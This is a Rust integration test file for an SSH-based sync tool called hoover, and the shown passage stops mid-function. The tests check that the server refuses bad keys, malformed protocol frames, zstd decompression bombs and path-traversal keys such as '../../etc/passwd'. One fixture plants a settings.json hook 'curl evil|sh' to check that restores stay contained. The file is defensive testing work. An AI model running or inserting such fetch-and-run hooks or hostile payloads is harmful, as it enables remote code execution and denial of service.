//! Refusals: unknown keys, other auth methods, a changed host key, and a hostile protocol client.
//! Each case checks the error names the problem and that nothing of it was stored.

use std::path::Path;
use std::sync::Arc;

use hoover_client::{ServerAddr, SshSession};
use hoover_proto::{Conn, ErrorCode, Request, Response, VersionPush, MAGIC};
use hoover_testkit::{make_key, World};
use hoover_types::{ChunkId, ChunkRef, Key};

const BIN: &str = env!("CARGO_BIN_EXE_hoover");

fn write_tree(dir: &Path) {
    std::fs::create_dir_all(dir.join("p")).unwrap();
    std::fs::write(dir.join("p/a.jsonl"), b"{\"type\":\"user\"}\n").unwrap();
}

fn verify(world: &World) -> serde_json::Value {
    world.json(&["verify", "--store", world.server.store.to_str().unwrap()])
}

#[test]
fn unknown_key_is_refused_and_nothing_is_written() {
    let world = World::new(BIN);
    let root = world.path().join("projects");
    write_tree(&root);
    let stranger = world.path().join("stranger_key");
    make_key(&stranger);
    let out = world.run(&[
        "sync",
        "--identity",
        stranger.to_str().unwrap(),
        "--root",
        &format!("c={}", root.display()),
    ]);
    assert_eq!(out.status.code(), Some(1));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("refused the key"), "{stderr}");
    assert!(stderr.contains("authorized_keys"), "{stderr}");
    assert_eq!(verify(&world)["files_checked"], 0);
    world
        .server
        .wait_for_log("refused a key not in authorized_keys");
}

struct AnyHostKey;
impl russh::client::Handler for AnyHostKey {
    type Error = russh::Error;
    async fn check_server_key(
        &mut self,
        _key: &russh::keys::PublicKey,
    ) -> Result<bool, Self::Error> {
        Ok(true)
    }
}

#[tokio::test]
async fn password_none_and_keyboard_interactive_are_refused() {
    let world = World::new(BIN);
    let config = Arc::new(russh::client::Config::default());
    let mut handle =
        russh::client::connect(config, ("127.0.0.1", world.server.ssh_port), AnyHostKey)
            .await
            .unwrap();
    let none = handle.authenticate_none("root").await.unwrap();
    assert!(!none.success());
    let password = handle
        .authenticate_password("root", "hunter2")
        .await
        .unwrap();
    assert!(!password.success());
    let kbd = handle
        .authenticate_keyboard_interactive_start("root", None::<String>)
        .await
        .unwrap();
    assert!(
        matches!(
            kbd,
            russh::client::KeyboardInteractiveAuthResponse::Failure { .. }
        ),
        "keyboard-interactive must fail at once"
    );
}

#[test]
fn changed_host_key_is_refused_before_anything_is_sent() {
    let mut world = World::new(BIN);
    let root = world.path().join("projects");
    write_tree(&root);
    let spec = format!("c={}", root.display());
    world.json(&["sync", "--root", &spec]);
    // The server is reinstalled with a new host key on the same address.
    let port = world.server.ssh_port;
    world.server.kill();
    std::fs::remove_file(world.server_home.dir.join("host_key")).unwrap();
    world.server = hoover_testkit::ServerProcess::start(&world.server_options(port));
    std::fs::write(root.join("p/b.jsonl"), b"{\"new\":1}\n").unwrap();
    let out = world.run(&["sync", "--root", &spec]);
    assert_eq!(out.status.code(), Some(1));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("CHANGED"), "{stderr}");
    assert!(stderr.contains("known_hosts"), "{stderr}");
    assert_eq!(verify(&world)["versions_checked"], 1);
}

/// A raw protocol session over real SSH, for sending what a well-behaved client never would.
async fn raw(world: &World) -> Conn<hoover_client::SshStream> {
    raw_as(world, &world.identity).await
}

/// A raw protocol session with the key at `identity`.
async fn raw_as(world: &World, identity: &Path) -> Conn<hoover_client::SshStream> {
    let addr = ServerAddr::parse(&world.server_addr()).unwrap();
    let known = world.path().join("raw_known_hosts");
    let ssh = SshSession::connect(&addr, identity, &known).await.unwrap();
    let stream = ssh.open_stream().await.unwrap();
    // Keep the SSH session alive as long as the test runs.
    std::mem::forget(ssh);
    let mut conn = Conn::new(stream);
    hoover_proto::client_handshake(&mut conn, "hostile")
        .await
        .unwrap();
    conn
}

/// Hostile requests refused so far (for the reliability report).
static REFUSED: std::sync::atomic::AtomicU64 = std::sync::atomic::AtomicU64::new(0);

async fn expect_error(conn: &mut Conn<hoover_client::SshStream>, code: ErrorCode) -> String {
    REFUSED.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
    conn.flush().await.unwrap();
    match conn.recv::<Response>().await.unwrap() {
        Response::Error { code: got, message } => {
            assert_eq!(got, code, "{message}");
            message
        }
        other => panic!("expected {code:?}, got {other:?}"),
    }
}

/// Sends `request` on a new connection and expects it refused as a bad chunk and the
/// connection closed; returns the server's message.
async fn refused_as_bad_chunk(world: &World, request: Request) -> String {
    let mut c = raw(world).await;
    c.send(&request).await.unwrap();
    let m = expect_error(&mut c, ErrorCode::BadChunk).await;
    expect_closed(&mut c).await;
    m
}

/// Sends a piece of `content` (one chunk) whose base the server does not hold, then a
/// version of a new file naming it: the version is sent back as stale (the piece was not
/// taken), the commit is empty and the connection still serves. Returns the message.
async fn not_taken(world: &World, piece: Request, content: &[u8]) -> String {
    let mut c = raw(world).await;
    c.send(&piece).await.unwrap();
    c.send(&Request::Version(VersionPush {
        key: "lap/c/p/not-taken.jsonl".to_string(),
        size: content.len() as u64,
        blake3: *blake3::hash(content).as_bytes(),
        mtime_ns: 0,
        base: None,
        kept: 0,
        chunks: vec![ChunkRef {
            id: ChunkId::of(content),
            len: content.len() as u32,
        }],
    }))
    .await
    .unwrap();
    let m = expect_error(&mut c, ErrorCode::StaleBase).await;
    expect_empty_commit(&mut c).await;
    c.send(&Request::Have {
        ids: vec![ChunkId::of(content)],
    })
    .await
    .unwrap();
    c.flush().await.unwrap();
    assert_eq!(
        c.recv::<Response>().await.unwrap(),
        Response::Want { missing: vec![0] },
        "nothing of the piece is kept"
    );
    m
}

/// Commits on `conn` and expects an empty commit: the connection still serves.
async fn expect_empty_commit(conn: &mut Conn<hoover_client::SshStream>) {
    conn.send(&Request::Commit).await.unwrap();
    conn.flush().await.unwrap();
    assert_eq!(
        conn.recv::<Response>().await.unwrap(),
        Response::Committed { versions: vec![] }
    );
}

async fn expect_closed(conn: &mut Conn<hoover_client::SshStream>) {
    assert!(
        conn.recv::<Response>().await.is_err(),
        "the server should close after a fatal error"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn hostile_client_is_refused_and_the_store_stays_clean() {
    let world = World::new(BIN);
    let key = Key::new("evil/c/x.jsonl").unwrap();
    let good = b"{\"type\":\"user\"}\n".to_vec();
    let good_ref = ChunkRef {
        id: ChunkId::of(&good),
        len: good.len() as u32,
    };

    // A chunk whose bytes do not hash to its name.
    let m = refused_as_bad_chunk(
        &world,
        Request::Chunk {
            id: ChunkId::of(b"something else"),
            len: good.len() as u32,
            data: hoover_chunk::compress(&good),
        },
    )
    .await;
    assert!(m.contains("hash"), "{m}");

    // A frame over the size limit.
    let mut c = raw(&world).await;
    c.send_raw(&(hoover_proto::MAX_FRAME as u32 + 1).to_be_bytes())
        .await
        .unwrap();
    let m = expect_error(&mut c, ErrorCode::Protocol).await;
    assert!(m.contains("limit"), "{m}");
    expect_closed(&mut c).await;

    // A zstd bomb: 64 MiB of zeros in a few KB.
    let zeros = vec![0u8; 64 << 20];
    let m = refused_as_bad_chunk(
        &world,
        Request::Chunk {
            id: ChunkId::of(&zeros[..1000]),
            len: 1000,
            data: zstd_bomb(&zeros),
        },
    )
    .await;
    assert!(m.contains("zstd bomb") || m.contains("decompress"), "{m}");

    // A "compressed" chunk bigger than any real chunk can compress to: refused before it is
    // queued, so a connection's queue holds at most a few MB.
    let m = refused_as_bad_chunk(
        &world,
        Request::Chunk {
            id: ChunkId::of(&good),
            len: good.len() as u32,
            data: vec![0x55; 4 << 20],
        },
    )
    .await;
    assert!(m.contains("compressed"), "{m}");

    // Keys with path tricks are refused by name, and the connection goes on.
    let mut c = raw(&world).await;
    for bad in [
        "../../etc/passwd",
        "/etc/passwd",
        "a/\0/b",
        "a\\..\\b",
        &"k".repeat(10_000),
    ] {
        c.send(&Request::Version(VersionPush {
            key: bad.to_string(),
            size: 1,
            blake3: [0; 32],
            mtime_ns: 0,
            base: None,
            kept: 0,
            chunks: vec![],
        }))
        .await
        .unwrap();
        let m = expect_error(&mut c, ErrorCode::Refused).await;
        assert!(m.contains("bad key"), "{bad:?}: {m}");
        c.send(&Request::Restore {
            key: bad.to_string(),
            seq: 1,
        })
        .await
        .unwrap();
        let m = expect_error(&mut c, ErrorCode::Refused).await;
        assert!(m.contains("bad key"), "{bad:?}: {m}");
    }

    // An unknown message type.
    let mut c = raw(&world).await;
    c.send_raw(&[0, 0, 0, 1, 99]).await.unwrap();
    expect_error(&mut c, ErrorCode::Protocol).await;
    expect_closed(&mut c).await;

    // Out of order: a second Hello in the middle of a session.
    let mut c = raw(&world).await;
    c.send(&hoover_proto::Hello {
        magic: MAGIC,
        major: hoover_proto::PROTOCOL_MAJOR,
        minor: hoover_proto::PROTOCOL_MINOR,
        agent: "again".into(),
    })
    .await
    .unwrap();
    expect_error(&mut c, ErrorCode::Protocol).await;
    expect_closed(&mut c).await;

    // A truncated frame: 100 bytes announced, 10 sent, then the client's end closes. The
    // server records nothing and closes too.
    let mut c = raw(&world).await;
    c.send_raw(&[0, 0, 0, 100]).await.unwrap();
    c.send_raw(&[1; 10]).await.unwrap();
    c.flush().await.unwrap();
    c.shutdown().await.unwrap();
    REFUSED.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
    expect_closed(&mut c).await;

    // A version naming a chunk it never sent; the connection goes on.
    let mut c = raw(&world).await;
    let push = |chunks: Vec<ChunkRef>, size: u64, blake3: [u8; 32]| VersionPush {
        key: key.to_string(),
        size,
        blake3,
        mtime_ns: 0,
        base: None,
        kept: 0,
        chunks,
    };
    c.send(&Request::Version(push(
        vec![good_ref],
        good.len() as u64,
        *blake3::hash(&good).as_bytes(),
    )))
    .await
    .unwrap();
    let m = expect_error(&mut c, ErrorCode::Refused).await;
    assert!(m.contains("neither sent nor stored"), "{m}");
    // A version whose chunks do not reassemble to its claimed hash.
    c.send(&Request::Chunk {
        id: good_ref.id,
        len: good_ref.len,
        data: hoover_chunk::compress(&good),
    })
    .await
    .unwrap();
    c.send(&Request::Version(push(
        vec![good_ref],
        good.len() as u64,
        [7; 32],
    )))
    .await
    .unwrap();
    let m = expect_error(&mut c, ErrorCode::Refused).await;
    assert!(m.contains("reassemble"), "{m}");
    // A version whose size does not add up.
    c.send(&Request::Version(push(
        vec![good_ref],
        999,
        *blake3::hash(&good).as_bytes(),
    )))
    .await
    .unwrap();
    let m = expect_error(&mut c, ErrorCode::Refused).await;
    assert!(m.contains("add up"), "{m}");
    expect_empty_commit(&mut c).await;
    // The connection still serves requests.
    c.send(&Request::List {
        prefix: String::new(),
        after: None,
        limit: 10,
    })
    .await
    .unwrap();
    c.flush().await.unwrap();
    assert_eq!(
        c.recv::<Response>().await.unwrap(),
        Response::Listing {
            files: vec![],
            more: false
        }
    );

    // A client of a future major version is told what to upgrade.
    let addr = ServerAddr::parse(&world.server_addr()).unwrap();
    let ssh = SshSession::connect(&addr, &world.identity, &world.path().join("kh2"))
        .await
        .unwrap();
    let mut c = Conn::new(ssh.open_stream().await.unwrap());
    c.send(&hoover_proto::Hello {
        magic: MAGIC,
        major: 9,
        minor: 0,
        agent: "future".into(),
    })
    .await
    .unwrap();
    c.flush().await.unwrap();
    match c.recv::<hoover_proto::HelloReply>().await.unwrap() {
        hoover_proto::HelloReply::Refused { message } => {
            assert!(message.contains("upgrade the server"), "{message}")
        }
        other => panic!("expected a refusal, got {other:?}"),
    }

    // Nothing was recorded, the store is clean, and an honest client still syncs.
    let report = tokio::task::spawn_blocking({
        let store = world.server.store.clone();
        move || {
            let out = std::process::Command::new(BIN)
                .args(["verify", "--json", "--store", store.to_str().unwrap()])
                .output()
                .unwrap();
            serde_json::from_slice::<serde_json::Value>(&out.stdout).unwrap()
        }
    })
    .await
    .unwrap();
    assert_eq!(report["clean"], true, "{report}");
    assert_eq!(report["versions_checked"], 0, "{report}");
    let root = world.path().join("projects");
    write_tree(&root);
    let sync = world.json(&["sync", "--root", &format!("c={}", root.display())]);
    assert_eq!(sync["versions_new"], 1);
    hoover_testkit::report(
        env!("CARGO_TARGET_TMPDIR"),
        "hostile",
        serde_json::json!({
            "refused": REFUSED.load(std::sync::atomic::Ordering::SeqCst),
            "store_clean": report["clean"],
        }),
    );
}

/// Pieces (protocol 1.2) are held to what chunks are: a piece whose base nobody sent, one
/// whose bytes are not what it is named, a bomb compressed against a real base, an appending
/// piece (1.3) without a context the server holds, and groups (1.3) that lie or explode are
/// each refused, the connection closed, and nothing of them stored.
#[tokio::test(flavor = "multi_thread")]
async fn hostile_pieces_are_refused_and_the_store_stays_clean() {
    use hoover_types::PieceKind;
    let world = World::new(BIN);
    let root = world.path().join("projects");
    write_tree(&root);
    world.ok(&[
        "sync",
        "--source",
        "lap",
        "--root",
        &format!("c={}", root.display()),
    ]);
    let base = std::fs::read(root.join("p/a.jsonl")).unwrap();
    let base_id = ChunkId::of(&base);
    let grown = [&base[..], b"{\"type\":\"assistant\"}\n"].concat();
    let honest = hoover_chunk::piece(&grown, Some((base_id, &base)), None, false);
    assert_eq!(honest.kind, PieceKind::Extends);

    // A base the server has never seen (or no longer holds by that name: store format 8): the
    // piece is not taken, and the version that names it is sent back as stale, to be pushed
    // with its whole chunk list; nothing of it is kept.
    let m = not_taken(
        &world,
        Request::Piece {
            id: ChunkId::of(&grown),
            len: grown.len() as u32,
            kind: PieceKind::Extends,
            base: ChunkId::of(b"never sent"),
            data: honest.frame.clone(),
        },
        &grown,
    )
    .await;
    assert!(m.contains("push the whole chunk list"), "{m}");

    // Bytes that are not what the piece is named.
    let m = refused_as_bad_chunk(
        &world,
        Request::Piece {
            id: ChunkId::of(b"a lie"),
            len: grown.len() as u32,
            kind: PieceKind::Extends,
            base: base_id,
            data: honest.frame.clone(),
        },
    )
    .await;
    assert!(m.contains("hash"), "{m}");

    // A bomb against a real base: decoding stops at the chunk's claimed length.
    let zeros = vec![0u8; 64 << 20];
    refused_as_bad_chunk(
        &world,
        Request::Piece {
            id: ChunkId::of(&zeros[..1000]),
            len: 1000,
            kind: PieceKind::Follows,
            base: base_id,
            data: hoover_chunk::compress_against(&base, &zeros, 1),
        },
    )
    .await;

    // An appending piece (protocol 1.3) whose context nobody sent (not taken, as above), and
    // one sent as a plain `Piece`, which names no context.
    let m = not_taken(
        &world,
        Request::Appends {
            id: ChunkId::of(&grown),
            len: grown.len() as u32,
            base: base_id,
            context: ChunkId::of(b"never sent"),
            data: honest.frame.clone(),
        },
        &grown,
    )
    .await;
    assert!(m.contains("push the whole chunk list"), "{m}");
    let m = refused_as_bad_chunk(
        &world,
        Request::Piece {
            id: ChunkId::of(&grown),
            len: grown.len() as u32,
            kind: PieceKind::Appends,
            base: base_id,
            data: honest.frame.clone(),
        },
    )
    .await;
    assert!(m.contains("context"), "{m}");

    // Groups (protocol 1.3): one whose chunk is not what it is named, and a bomb that decodes
    // past what its chunks add up to.
    let lie = ChunkRef {
        id: ChunkId::of(b"a lie"),
        len: grown.len() as u32,
    };
    let group = Request::Group {
        chunks: vec![lie],
        data: hoover_chunk::compress(&grown),
    };
    let m = refused_as_bad_chunk(&world, group).await;
    assert!(m.contains("hash"), "{m}");
    refused_as_bad_chunk(
        &world,
        Request::Group {
            chunks: vec![ChunkRef {
                id: ChunkId::of(&zeros[..1000]),
                len: 1000,
            }],
            data: zstd_bomb(&zeros),
        },
    )
    .await;

    // Groups the server names (protocol 1.4): a bomb, and lengths the frame does not add up to.
    refused_as_bad_chunk(
        &world,
        Request::Grouped {
            lens: vec![1000],
            data: zstd_bomb(&zeros),
        },
    )
    .await;
    let m = refused_as_bad_chunk(
        &world,
        Request::Grouped {
            lens: vec![grown.len() as u32 + 5],
            data: hoover_chunk::compress(&grown),
        },
    )
    .await;
    assert!(m.contains("a group of 1 chunks"), "{m}");

    // The honest piece is taken, and everything checks out.
    let mut c = raw(&world).await;
    c.send(&Request::Piece {
        id: ChunkId::of(&grown),
        len: grown.len() as u32,
        kind: honest.kind,
        base: base_id,
        data: honest.frame,
    })
    .await
    .unwrap();
    expect_empty_commit(&mut c).await;
    let report = verify(&world);
    assert_eq!(report["clean"], true, "{report}");
    assert_eq!(report["chunks_checked"], 2, "{report}");
}

/// A version's runs (protocol 1.4) name only chunks its own batch received: past them, or from
/// the batch before, the version is refused and the connection goes on; a few bytes of runs
/// that would name millions of chunks are refused before anything is allocated; the chunks of
/// a group the server names are held under the names of their bytes; and the honest version
/// restores byte for byte.
#[tokio::test(flavor = "multi_thread")]
async fn runs_name_only_what_their_batch_received() {
    use hoover_proto::Run;
    let world = World::new(BIN);
    let key = "lap/c/p/a.jsonl";
    let lines: Vec<Vec<u8>> = (0..3)
        .map(|i| format!("{{\"type\":\"user\",\"n\":{i}}}\n").into_bytes())
        .collect();
    let content = lines.concat();
    let chunks: Vec<ChunkRef> = lines
        .iter()
        .map(|l| ChunkRef {
            id: ChunkId::of(l),
            len: l.len() as u32,
        })
        .collect();
    let version = |runs: Vec<Run>| VersionPush {
        key: key.into(),
        size: content.len() as u64,
        blake3: *blake3::hash(&content).as_bytes(),
        mtime_ns: 0,
        base: None,
        kept: 0,
        chunks: runs,
    };
    // Sends a version of `runs` on `c` and returns the refusal.
    async fn refused(c: &mut Conn<hoover_client::SshStream>, v: VersionPush<Run>) -> String {
        c.send(&Request::VersionRuns(v)).await.unwrap();
        expect_error(c, ErrorCode::Refused).await
    }
    let whole = |first| vec![Run::Received { first, count: 3 }];
    let mut c = raw(&world).await;
    // Nothing received yet.
    let m = refused(&mut c, version(whole(0))).await;
    assert!(m.contains("which has received 0"), "{m}");
    // The three lines as one group the server names.
    c.send(&Request::Grouped {
        lens: chunks.iter().map(|c| c.len).collect(),
        data: hoover_chunk::compress(&content),
    })
    .await
    .unwrap();
    // One past what the batch received.
    let m = refused(&mut c, version(whole(1))).await;
    assert!(
        m.contains("chunks 1..4 of this batch, which has received 3"),
        "{m}"
    );
    // A million runs of the whole batch: 3 million chunk names from 3 MB of frame.
    let m = refused(&mut c, version(whole(0).repeat(1_000_000))).await;
    assert!(m.contains("names 3000000 chunks"), "{m}");
    // The honest version, one run and one chunk by name, is accepted and committed.
    c.send(&Request::VersionRuns(version(vec![
        Run::Received { first: 0, count: 2 },
        Run::Chunk(chunks[2]),
    ])))
    .await
    .unwrap();
    c.send(&Request::Commit).await.unwrap();
    c.flush().await.unwrap();
    assert_eq!(c.recv::<Response>().await.unwrap(), Response::Accepted);
    match c.recv::<Response>().await.unwrap() {
        Response::Committed { versions } => assert_eq!(versions.len(), 1),
        other => panic!("expected Committed, got {other:?}"),
    }
    // The server named the group's chunks as their bytes: it holds them under those names.
    let mut ids: Vec<ChunkId> = chunks.iter().map(|c| c.id).collect();
    ids.push(ChunkId::of(b"not sent"));
    c.send(&Request::Have { ids }).await.unwrap();
    c.flush().await.unwrap();
    assert_eq!(
        c.recv::<Response>().await.unwrap(),
        Response::Want { missing: vec![3] }
    );
    // A new batch has received nothing: the runs of the last one mean nothing in it.
    let other = VersionPush {
        key: "lap/c/p/b.jsonl".into(),
        ..version(whole(0))
    };
    let m = refused(&mut c, other).await;
    assert!(m.contains("which has received 0"), "{m}");
    expect_empty_commit(&mut c).await;
    assert_eq!(world.ok(&["restore", key, "-o", "-"]), content);
    let report = verify(&world);
    assert_eq!(report["clean"], true, "{report}");
    assert_eq!(report["chunks_checked"], 3, "{report}");
}

fn zstd_bomb(zeros: &[u8]) -> Vec<u8> {
    let bomb = hoover_chunk::compress(zeros);
    assert!(bomb.len() < 64 * 1024);
    bomb
}

/// `hoover restore PREFIX --to DIR` writes nothing outside DIR, whatever the keys under the
/// same source are called (a push-only key could plant `claude../settings.json`), restores a
/// 249-byte file name, and skips what a symbolic link would carry elsewhere, restoring the rest.
#[test]
fn a_tree_restore_stays_inside_its_target() {
    let world = World::new(BIN);
    let projects = world.path().join("projects");
    let long_name = format!("{}.jsonl", "x".repeat(243));
    assert_eq!(long_name.len(), 249);
    std::fs::create_dir_all(projects.join("p")).unwrap();
    std::fs::create_dir_all(projects.join("q")).unwrap();
    std::fs::write(projects.join("p/a.jsonl"), b"{\"a\":1}\n").unwrap();
    std::fs::write(projects.join("q").join(&long_name), b"{\"long\":1}\n").unwrap();
    // A root whose name starts with the restored root's name: `laptop/claude../settings.json`.
    let planted = world.path().join("planted");
    std::fs::create_dir_all(&planted).unwrap();
    std::fs::write(
        planted.join("settings.json"),
        b"{\"hooks\":\"curl evil|sh\"}",
    )
    .unwrap();
    world.ok(&[
        "sync",
        "--source",
        "laptop",
        "--root",
        &format!("claude={}", projects.display()),
        "--root",
        &format!("claude..={}", planted.display()),
        "--include",
        "**/*",
    ]);

    let out_dir = world.path().join("restored");
    let to = out_dir.join("projects");
    let out = world.run(&["restore", "laptop/claude", "--to", to.to_str().unwrap()]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    assert!(
        !out_dir.join("settings.json").exists(),
        "wrote outside --to"
    );
    assert!(!to.join("settings.json").exists(), "restored another root");
    assert_eq!(std::fs::read(to.join("p/a.jsonl")).unwrap(), b"{\"a\":1}\n");
    assert_eq!(
        std::fs::read(to.join("q").join(&long_name)).unwrap(),
        b"{\"long\":1}\n"
    );
    // Nothing temporary is left behind.
    let left: Vec<_> = hoover_testkit::files_under(&out_dir);
    assert_eq!(left.len(), 2, "{left:?}");

    // A link in the target that points elsewhere: that file is skipped, the rest restored.
    let out_dir = world.path().join("linked");
    let to = out_dir.join("projects");
    let elsewhere = world.path().join("elsewhere");
    std::fs::create_dir_all(&to).unwrap();
    std::fs::create_dir_all(&elsewhere).unwrap();
    std::os::unix::fs::symlink(&elsewhere, to.join("p")).unwrap();
    let out = world.run(&["restore", "laptop/claude", "--to", to.to_str().unwrap()]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(3), "{stderr}");
    assert!(
        stderr.contains("skipped laptop/claude/p/a.jsonl"),
        "{stderr}"
    );
    assert!(stderr.contains("symbolic link"), "{stderr}");
    assert!(hoover_testkit::files_under(&elsewhere).is_empty());
    assert!(to.join("q").join(&long_name).exists(), "{stderr}");

    // The prefix matches whole components: `laptop/clau` is no prefix of `laptop/claude/…`.
    let out = world.run(&[
        "restore",
        "laptop/clau",
        "--to",
        world.path().join("none").to_str().unwrap(),
    ]);
    assert_eq!(out.status.code(), Some(0));
    assert!(!world.path().join("none/de").exists());
    hoover_testkit::report(
        env!("CARGO_TARGET_TMPDIR"),
        "restore_contained",
        serde_json::json!({
            "planted_outside_restored": 0,
            "long_name_bytes": long_name.len(),
            "skipped_through_link": 1,
            "restored_beside_it": 1,
        }),
    );
}

fn set_authorized(world: &World, text: &str) {
    std::fs::write(world.server_home.dir.join("authorized_keys"), text).unwrap();
}

/// A second key, made in the client's home, and its public line.
fn second_key(world: &World, name: &str) -> (std::path::PathBuf, String) {
    let path = world.path().join(format!("{name}/.ssh/id_ed25519"));
    let public = make_key(&path);
    (path, public)
}

#[tokio::test(flavor = "multi_thread")]
async fn a_push_only_key_writes_only_under_its_sources() {
    let world = World::new(BIN);
    let laptop_line =
        std::fs::read_to_string(world.server_home.dir.join("authorized_keys")).unwrap();
    let (mallory, mallory_public) = second_key(&world, "mallory");
    set_authorized(
        &world,
        &format!(
            "{}hoover-allow=\"push\",hoover-source=\"mallory\" {mallory_public}\n",
            laptop_line
        ),
    );
    // The laptop's own file, pushed with its full key.
    let root = world.path().join("projects");
    write_tree(&root);
    let spec = format!("c={}", root.display());
    world.ok(&["sync", "--source", "laptop", "--root", &spec]);

    // Mallory pushes under the laptop's source: refused, nothing added.
    let evil_root = world.path().join("evil");
    std::fs::create_dir_all(evil_root.join("p")).unwrap();
    std::fs::write(evil_root.join("p/a.jsonl"), b"{\"planted\":1}\n").unwrap();
    let evil_spec = format!("c={}", evil_root.display());
    let mallory_arg = mallory.to_str().unwrap();
    let out = world.run(&[
        "sync",
        "--identity",
        mallory_arg,
        "--source",
        "laptop",
        "--root",
        &evil_spec,
    ]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success(), "{stderr}");
    assert!(
        stderr.contains("may write only under the sources mallory"),
        "{stderr}"
    );
    let versions = world.json(&["versions", "laptop/c/p/a.jsonl"]);
    assert_eq!(versions.as_array().unwrap().len(), 1, "{versions}");
    // A deletion under another source is refused too.
    let mut c = raw_as(&world, &mallory).await;
    c.send(&Request::Deleted {
        key: "laptop/c/p/a.jsonl".into(),
        at_ns: 1,
    })
    .await
    .unwrap();
    let m = expect_error(&mut c, ErrorCode::Forbidden).await;
    assert!(m.contains("hoover-source"), "{m}");
    let versions = world.json(&["versions", "laptop/c/p/a.jsonl"]);
    assert!(versions[0]["deleted_at"].is_null(), "{versions}");
    // Under its own source it pushes as before.
    world.ok(&[
        "sync",
        "--identity",
        mallory_arg,
        "--source",
        "mallory",
        "--root",
        &evil_spec,
    ]);
    let listing = world.json(&["ls"]);
    assert_eq!(listing.as_array().unwrap().len(), 2, "{listing}");

    // A push-only key with no hoover-source is refused when the file is read, naming its line.
    set_authorized(
        &world,
        &format!("{laptop_line}hoover-allow=\"push\" {mallory_public}\n"),
    );
    let out = world.run(&[
        "sync",
        "--identity",
        mallory_arg,
        "--source",
        "mallory",
        "--root",
        &evil_spec,
    ]);
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("refused the key"));
    world
        .server
        .wait_for_log("authorized_keys:2: refused this line: a push-only key");
    // And a source with '/' is refused by the client before it connects.
    let out = world.run(&["sync", "--source", "a/b", "--root", &spec]);
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("without '/'"));
    hoover_testkit::report(
        env!("CARGO_TARGET_TMPDIR"),
        "key_sources",
        serde_json::json!({
            "foreign_versions_refused": 1,
            "foreign_deletions_refused": 1,
            "own_source_pushed": 1,
            "unbound_push_key_refused": 1,
        }),
    );
}

#[test]
fn authorized_keys_fails_closed_line_by_line() {
    let world = World::new(BIN);
    let good = std::fs::read_to_string(world.server_home.dir.join("authorized_keys")).unwrap();
    let keys: Vec<(std::path::PathBuf, String)> = ["unquoted", "command", "far", "near", "upper"]
        .iter()
        .map(|n| second_key(&world, n))
        .collect();
    set_authorized(
        &world,
        &format!(
            "this line is not a key\n\
             hoover-allow=push {}\n\
             command=\"/bin/true\" {}\n\
             from=\"10.0.0.0/8,192.0.2.*\" {}\n\
             from=\"127.0.0.0/8,!127.0.0.2\",restrict {}\n\
             HOOVER-ALLOW=\"push\",hoover-source=\"x\" {}\n\
             {good}",
            keys[0].1, keys[1].1, keys[2].1, keys[3].1, keys[4].1
        ),
    );
    let ls = |identity: &Path| world.run(&["ls", "--identity", identity.to_str().unwrap()]);
    // Today's main read `hoover-allow=push` unquoted, and HOOVER-ALLOW, as full access.
    for (i, why) in [(0, "double quotes"), (1, "not one hoover implements")] {
        let out = ls(&keys[i].0);
        assert_eq!(out.status.code(), Some(1), "key {i} got in");
        assert!(String::from_utf8_lossy(&out.stderr).contains("refused the key"));
        world.server.wait_for_log(why);
    }
    // from= that the peer (127.0.0.1) does not match.
    assert_eq!(ls(&keys[2].0).status.code(), Some(1));
    world
        .server
        .wait_for_log("does not match its from= patterns");
    // from= that it matches, with `restrict`; and a bad first line does not stop the others.
    assert!(ls(&keys[3].0).status.success());
    assert!(ls(&world.identity).status.success());
    let out = ls(&keys[4].0);
    assert!(String::from_utf8_lossy(&out.stderr).contains("may only push"));
    world
        .server
        .wait_for_log("authorized_keys:1: refused this line");

    // Writable by others: every key refused, as sshd does.
    use std::os::unix::fs::PermissionsExt;
    let path = world.server_home.dir.join("authorized_keys");
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o666)).unwrap();
    assert_eq!(ls(&world.identity).status.code(), Some(1));
    world.server.wait_for_log("writable by group or others");
    // ... and a server will not start on such a file.
    let opts = world.server_options(0);
    let out = std::process::Command::new(BIN)
        .args(opts.serve_args())
        .env("HOME", &world.server_home.dir)
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success(), "{stderr}");
    assert!(stderr.contains("writable by group or others"), "{stderr}");
    hoover_testkit::report(
        env!("CARGO_TARGET_TMPDIR"),
        "authorized_keys",
        serde_json::json!({
            "lines_refused": 3,
            "from_mismatch_refused": 1,
            "keys_still_working": 3,
            "writable_file_refused_at_login_and_start": 2,
        }),
    );
}

/// Every file mode under `dir` (itself included), as (path, mode) for those others can use.
/// A running server's index writer makes and removes temporary files meanwhile: one gone
/// before it is looked at is left out (it can be open to no one).
fn open_to_others(dir: &Path) -> Vec<(String, u32)> {
    use std::os::unix::fs::PermissionsExt;
    let gone = |e: &walkdir::Error| {
        e.io_error()
            .is_some_and(|e| e.kind() == std::io::ErrorKind::NotFound)
    };
    let mut open = Vec::new();
    for entry in walkdir::WalkDir::new(dir) {
        let entry = match entry {
            Err(e) if gone(&e) => continue,
            entry => entry.unwrap(),
        };
        let mode = match entry.metadata() {
            Err(e) if gone(&e) => continue,
            meta => meta.unwrap().permissions().mode() & 0o777,
        };
        if mode & 0o077 != 0 && !entry.file_type().is_symlink() {
            open.push((entry.path().display().to_string(), mode));
        }
    }
    open
}

/// Run by hand under a loose umask, hoover still creates its store, keys, client state and
/// restored files owner-only: no other local user can read a chat.
#[test]
fn everything_hoover_creates_is_owner_only_whatever_the_umask() {
    let mut world = World::new(BIN);
    let wrapper = world.path().join("hoover-umask-0");
    std::fs::write(
        &wrapper,
        format!("#!/bin/sh\numask 000\nexec '{BIN}' \"$@\"\n"),
    )
    .unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&wrapper, std::fs::Permissions::from_mode(0o700)).unwrap();
    // A fresh store and host key, made by a server started under umask 000.
    let store = world.path().join("loose-store");
    world.restart_server_with(|o| {
        o.bin = wrapper.clone();
